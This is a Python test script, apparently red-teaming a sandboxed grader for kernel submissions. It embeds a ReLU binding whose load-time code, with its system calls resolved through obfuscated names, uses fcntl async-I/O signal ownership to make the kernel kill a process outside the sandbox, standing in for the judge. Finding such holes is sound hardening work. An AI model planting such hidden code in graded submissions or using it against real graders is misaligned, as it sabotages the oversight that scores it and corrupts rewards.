"""s1: a signal to a process outside the sandbox, sent by the kernel, not by a syscall the filter sees.
At load the candidate sets its inherited channel socket (and its log) to async I/O: fcntl(F_SETOWN, VICTIM),
fcntl(F_SETSIG, SIGTERM), fcntl(F_SETFL, O_ASYNC). When the judge next writes to the channel the kernel sends
SIGTERM to VICTIM (a root `sleep` this driver starts, outside every sandbox: a stand-in for the judge, the
fork server or the baseline client). seccomp limits kill/tgkill to its own pid; fcntl is filtered only for
F_SETLEASE/F_NOTIFY. MODE: attack | self (the same, owner = the candidate itself: shows the kernel does send the signal) | probe (the same, then raises with what fcntl answered) | control (honest relu, same victim)."""
import sys, subprocess, time
from common import *
mode = sys.argv[1] if len(sys.argv) > 1 else "attack"
victim = subprocess.Popen(["sleep", "300"])
BINDING = r'''
#include "binding_registry.h"
#include <cstdint>
#include <cstring>
#include <string>
extern "C" void relu_kernel(const float* x, float* y, int64_t n);
RESOLVER
using Fcntl = int (*)(int, int, ...); using Errno = int* (*)(); using Readlink = long (*)(const char*, char*, unsigned long);
static std::string g_note;
static int act() {
  if (MODE == 0) return 0;
  auto fc = (Fcntl)resolve("FCNTL"); auto er = (Errno)resolve("ERRNO"); auto rl = (Readlink)resolve("READLINK");
  for (int fd = 0; fd < 64; ++fd) {
    char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", fd); char t[256]; long n = rl(p, t, 255); if (n < 0) continue; t[n] = 0;
    if (strncmp(t, "socket:", 7) != 0) continue;
    int a = fc(fd, 8 /*F_SETOWN*/, VICTIM); int ea = *er();
    int b = fc(fd, 10 /*F_SETSIG*/, 15 /*SIGTERM*/);
    int fl = fc(fd, 3 /*F_GETFL*/); int c = fc(fd, 4 /*F_SETFL*/, fl | 0x2000 /*O_ASYNC*/); int ec = *er();
    g_note += "fd" + std::to_string(fd) + " setown=" + std::to_string(a) + "/" + std::to_string(ea) + " setsig=" + std::to_string(b) + " async=" + std::to_string(c) + "/" + std::to_string(ec) + "; ";
  }
  return 1;
}
static int g_done = act();
at::Tensor relu_forward(const at::Tensor& x) {
  auto y = at::empty_like(x);
  relu_kernel(x.data_ptr<float>(), y.data_ptr<float>(), x.numel());
  if (MODE == 2) TORCH_CHECK(false, "PROBE ", g_note);
  return y;
}
REGISTER_BINDING(relu, relu_forward)
'''.replace("RESOLVER", RESOLVER).replace("VICTIM", "(%d == 3 ? ((int (*)())resolve(\"GETPID\"))() : %d)" % ({"control": 0, "attack": 1, "probe": 2, "self": 3}[mode], victim.pid)).replace("MODE", str({"control": 0, "attack": 1, "probe": 2, "self": 3}[mode]))
for k, v in {"FCNTL": "fcntl", "ERRNO": "__errno_location", "READLINK": "readlink", "GETPID": "getpid"}.items():
    BINDING = BINDING.replace('"%s"' % k, '"%s"' % enc(v))
res = run(f"s1_sigio_{mode}", RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": BINDING}, note=mode)
time.sleep(0.5)
victim_rc = victim.poll()
res2 = run(f"s1_sigio_{mode}_then_honest", RELU_MODEL_NEW, {"relu.cpp": RELU_KERNEL, "relu_binding.cpp": RELU_BINDING},
           note="honest relu right after, same judge")
if victim.poll() is None: victim.kill(); victim.wait()
record(name=f"s1_{mode}_summary", reward=res.reward, reason=(res.reason or "")[:300], victim_returncode=victim_rc,
       next_reward=res2.reward, next_reason=(res2.reason or "")[:200], leftovers=leftovers())
